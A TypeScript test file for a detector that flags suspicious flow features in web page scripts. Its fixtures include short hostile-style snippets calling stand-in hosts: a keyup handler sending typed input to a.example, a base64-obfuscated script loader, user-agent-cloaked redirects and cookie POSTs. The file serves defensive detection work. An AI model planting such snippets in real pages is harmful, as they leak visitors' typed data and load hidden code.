import { expect, test } from 'vitest'
import { analyse } from './analysis.ts'
import { FLOW_NAMES, flowValues } from './flow-features.ts'

/** Names of the features that are present. */
const namesOf = (source: string): ReadonlySet<string> => {
  const values = flowValues(analyse(source), ['shop.example'])
  return new Set(FLOW_NAMES.filter((_, i) => (values[i] ?? 0) > 0))
}

test.each<[name: string, source: string, has: readonly string[], hasNot: readonly string[]]>([
  [
    'an early return is a condition of what follows',
    `!function(){if(!/iPhone/.test(navigator.userAgent))return;location.href='https://a.example/'}()`,
    ['navigation under agent'],
    ['navigation under referrer'],
  ],
  [
    'a condition ends with its branch',
    `if(document.referrer){x=1}location.href='https://a.example/'`,
    [],
    ['navigation under referrer', 'navigation under agent'],
  ],
  [
    'a condition of a function does not leave it',
    `function f(){if(!document.referrer)return 1;return 2}f();location.href='https://a.example/'`,
    [],
    ['navigation under referrer'],
  ],
  [
    'a condition goes with what waits',
    `if(document.cookie.indexOf('a=')<0)setTimeout(function(){var s=document.createElement('script');s.src='https://a.example/x.js'},9)`,
    ['script under earlier visits'],
    ['cookie to other'],
  ],
  [
    'the first half of a conjunction is a condition of the second',
    `document.referrer&&screen.width<700&&(location='https://a.example/')`,
    ['navigation under referrer', 'navigation under agent'],
    ['navigation under clock'],
  ],
  [
    'what is asked of a field is not what stands in it',
    `fetch('https://a.example/',{method:'POST',body:document.querySelector('#q').value.indexOf('@')})`,
    [],
    ['field to other'],
  ],
  [
    'the event on which it happens',
    `document.querySelector('#q').onkeyup=function(){fetch('https://a.example/?'+this.value)}`,
    ['private while typing', 'field to other', 'private to other'],
    ['private while sending', 'private to unknown'],
  ],
  [
    'the host that follows from the clock',
    `fetch('https://'+Date.now()+'.example/')`,
    ['host by clock'],
    ['host by chance'],
  ],
  ['a clock behind the host is none of it', `fetch('https://a.example/?'+Date.now())`, [], ['host by clock']],
  [
    'a host that is put together',
    `var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUubmV0L3guanM=')`,
    ['host put together by script', 'host hidden alone by script'],
    ['host put together by request'],
  ],
  [
    'a host that stands there',
    `var s=document.createElement('script');s.src='https://gate.example.net/x.js'`,
    ['other host by script'],
    ['host put together by script', 'host hidden alone by script'],
  ],
  [
    'what stays',
    `fetch('https://shop.example/',{method:'POST',body:document.cookie})`,
    ['cookie to own'],
    ['private by request'],
  ],
])('%s', (_, source, has, hasNot) => {
  const names = namesOf(source)
  expect(has.filter((one) => !names.has(one))).toEqual([])
  expect(hasNot.filter((one) => names.has(one))).toEqual([])
})
